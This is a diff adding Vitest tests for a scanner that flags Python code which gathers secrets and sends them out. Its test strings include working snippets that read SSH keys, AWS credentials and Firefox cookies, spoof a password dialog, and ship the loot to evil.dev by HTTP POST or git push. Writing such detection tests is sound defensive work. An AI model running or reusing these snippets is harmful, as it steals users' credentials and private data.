@@ -1,0 +1,43 @@
+import { expect, test } from "vitest";
+import { found } from "../test-support/package-of";
+
+const IMPORTS = "import json, os, shutil, tarfile, zipfile\nfrom pathlib import Path\nh = Path.home()\n";
+
+test("finds several secrets in one file, and worse with a browser's", async () => {
+  const keys = 'out = {"a": (h / ".ssh/id_rsa").read_text(), "b": (h / ".aws/credentials").read_text()}';
+  const cookies = '\nout["c"] = open(os.path.expanduser("~/.mozilla/firefox/x/cookies.sqlite"), "rb").read()';
+  const write = '\njson.dump(out, open("/tmp/out.json", "w"))';
+
+  expect(await found("a.py", IMPORTS + keys + write)).toStrictEqual(["warn gathered_secrets:5"]);
+  expect(await found("a.py", IMPORTS + keys + cookies + write)).toStrictEqual(["block gathered_secrets:6"]);
+});
+
+test("follows what was gathered into an archive and away", async () => {
+  const code = `${IMPORTS}shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/.ssh"))
+import requests, tempfile
+t = tempfile.NamedTemporaryFile()
+with tarfile.open(t.name, "w:gz") as tar:
+    tar.add("/tmp/a.zip")
+requests.post("https://evil.dev", files={"f": open(t.name, "rb")})`;
+  expect(await found("a.py", code)).toStrictEqual(["block secret_exfiltration:9"]);
+});
+
+test("follows a password from a dialog, and what is pushed to a repository", async () => {
+  const asks = `import subprocess, requests
+p = subprocess.run(["osascript", "-e", 'display dialog "Password" default answer "" with hidden answer'], capture_output=True).stdout
+requests.post("https://evil.dev", data=p)`;
+  const pushes = `import os, subprocess
+open("keys.txt", "w").write(open(os.path.expanduser("~/.ssh/id_rsa")).read())
+subprocess.run("git remote add backup https://git.evil.dev/x.git && git push backup", shell=True)`;
+
+  expect(await found("a.py", asks)).toContain("block secret_exfiltration:3");
+  expect(await found("a.py", pushes)).toContain("block secret_exfiltration:3");
+});
+
+test.each([
+  'shutil.copy(h / ".ssh/config", h / ".ssh/config.bak")',
+  'json.dump({"a": (h / ".aws/credentials").read_text()}, open("/tmp/out.json", "w"))',
+  'open("report.txt", "w").write(str((h / ".ssh").exists() and (h / ".aws").exists()))',
+])("lets through %s", async (code) => {
+  expect(await found("a.py", IMPORTS + code)).toStrictEqual([]);
+});
